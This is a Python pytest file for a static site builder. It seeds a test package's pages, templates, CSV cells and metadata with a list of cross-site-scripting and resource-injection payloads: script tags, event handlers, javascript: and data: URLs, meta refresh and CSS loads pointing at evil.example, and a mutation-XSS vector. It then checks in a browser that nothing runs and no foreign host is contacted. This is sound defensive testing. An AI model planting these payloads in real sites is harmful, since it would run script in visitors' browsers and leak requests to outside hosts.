"""A package tries to run scripts and to ask other hosts, in every way: no browser does either."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page

import browsing
from yesan import store
from yesan.site import build

RUN = "top.ran=1"
FOREIGN = "https://evil.example"
MARKUP = (
    f"<script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    '<script src="data/run.js.txt"></script>',
    '<script src="data/run.txt"></script>',
    '<script src="../data/run.txt"></script>',
    f'<script src="{FOREIGN}/x.js"></script>',
    f'<script src="data:text/javascript,{RUN}"></script>',
    f'<img src=x onerror="{RUN}">',
    f'<img src="{FOREIGN}/x.png">',
    '<img name="currentScript" src="assets/own/x.png">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    f'<iframe srcdoc="<script>{RUN}</script><script src={FOREIGN}/x.js></script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe src="{FOREIGN}/"></iframe>',
    '<iframe src="data/page.html.txt"></iframe>',
    '<object data="data/page.html.txt"></object>',
    '<embed src="data/picture.svg.txt">',
    f'<meta http-equiv="refresh" content="0;url={FOREIGN}/">',
    f'<noscript><meta http-equiv="refresh" content="0;url={FOREIGN}/"></noscript>',
    f'<base href="{FOREIGN}/">',
    f'<link rel="stylesheet" href="{FOREIGN}/x.css">',
    f'<link rel="dns-prefetch preconnect prefetch" href="{FOREIGN}">',
    f'<p style="background: url({FOREIGN}/x.png)">x</p>',
    f"<style>@import '{FOREIGN}/x.css'; body {{background: url({FOREIGN}/y.png)}}</style>",
    f'<template shadowrootmode="open"><script>{RUN}</script></template>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<video src="{FOREIGN}/x.mp4" autoplay onerror="{RUN}"></video>',
    f'<body onload="{RUN}">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table>',
    f'"><script>{RUN}</script>',
    f"'-({RUN})-'",
    f"{{{{ ''.__class__ }}}}<script>{RUN}</script>",
    f'<div id="__config">{{"base": "{FOREIGN}", "features": ["navigation.instant"]}}</div>',
)  # fmt: skip
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'


@pytest.fixture(scope="module")
def hostile(project: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of a package that has all of it in cells, texts, pages, templates and files."""
    root = tmp_path_factory.mktemp("hostile") / "p"
    shutil.copytree(project / "tests/packages/kauri-coast", root)
    rows = "".join(f'"{text.replace(chr(34), chr(34) * 2)}",{n}\n' for n, text in enumerate(MARKUP))
    pages = {f"docs/en/own-{n}.md": f"# Own\n\n{text}\n\ntext\n" for n, text in enumerate(MARKUP)}
    files = {
        "docs/en/piece.html": f"<script>{RUN}</script>",
        "docs/assets/whole.html": f"<!doctype html><html>{''.join(MARKUP[:18])}</html>",
        "docs/overrides/pages/404.html.jinja": f"<html>{''.join(MARKUP[:18])}</html>",
        "docs/overrides/pages/embed.html.jinja": f"{MARKUP[0]}{{{{ title }}}}",
        "docs/overrides/pages/glossary.md.jinja": "# x\n",
        "data/page.html": MARKUP[0],
        "data/picture.svg": SVG,
        "data/run.txt": RUN,
        "data/run.js": RUN,
        "data/odd.csv": f"text,amount\n{rows}",
    }
    for name, content in (pages | files).items():
        store.save(root / name, content)
    descriptor = json.loads((root / "datapackage.json").read_text(encoding="utf-8"))
    names = ("page.html", "picture.svg", "run.txt", "run.js")
    brought = [
        {"name": f"{n.replace('.', '-')}", "path": f"data/{n}", "title": MARKUP[0]} for n in names
    ]
    odd = {"name": "odd", "path": "data/odd.csv", "title": MARKUP[0], "description": MARKUP[7]}
    descriptor["resources"] += [*brought, odd]
    descriptor["title"] = f"Coast {MARKUP[0]}"
    (root / "datapackage.json").write_text(json.dumps(descriptor), encoding="utf-8")
    return build.build(root).site


def _opened(page: Page, addresses: Iterator[str]) -> tuple[int, list[str], list[str]]:
    """How many addresses were opened, in which a script ran, and which others were asked."""
    asked: list[tuple[str, str | None]] = []
    ran: list[str] = []
    page.on("requestfinished", lambda request: asked.append((request.url, None)))
    page.on("requestfailed", lambda request: asked.append((request.url, request.failure)))
    opened = list(addresses)
    for address in opened:
        page.goto(address, timeout=20_000)
        if page.evaluate("top.ran"):
            ran.append(address)
    return (
        len(opened),
        ran,
        [f"{url} {why}" for url, why in asked if FOREIGN in url and why != "csp"],
    )


def test_nothing_runs_and_nobody_is_asked(hostile: Path, page: Page):
    """In each page, and in each picture that is opened alone."""
    found = [*hostile.rglob("*.html"), *hostile.rglob("*.svg"), *(hostile / "data").glob("*.txt")]
    names = sorted(path.relative_to(hostile).as_posix() for path in found)
    with browsing.served(hostile) as address:
        opened, ran, asked = _opened(page, (f"{address}/{name}" for name in names))
    assert opened > len(MARKUP) + 40
    assert (ran, asked) == ([], [])


def test_nothing_runs_in_a_site_that_is_opened_from_a_folder(hostile: Path, page: Page):
    names = sorted(hostile.rglob("own-*.html"))
    opened, ran, asked = _opened(page, (path.as_uri() for path in names))
    assert opened == len(MARKUP)
    assert (ran, asked) == ([], [])
